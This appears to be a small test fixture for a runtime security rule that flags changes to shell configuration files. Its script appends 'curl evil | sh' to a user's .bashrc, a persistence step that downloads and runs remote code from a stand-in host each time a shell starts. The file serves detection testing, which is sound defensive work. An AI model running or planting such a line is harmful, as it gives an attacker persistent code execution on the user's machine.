#@ rule: Shell configuration file modified
#@ priority: Warning
#@ field: fd.name=/home/user/.bashrc
mkdir -p /home/user
echo 'curl evil | sh' >> /home/user/.bashrc
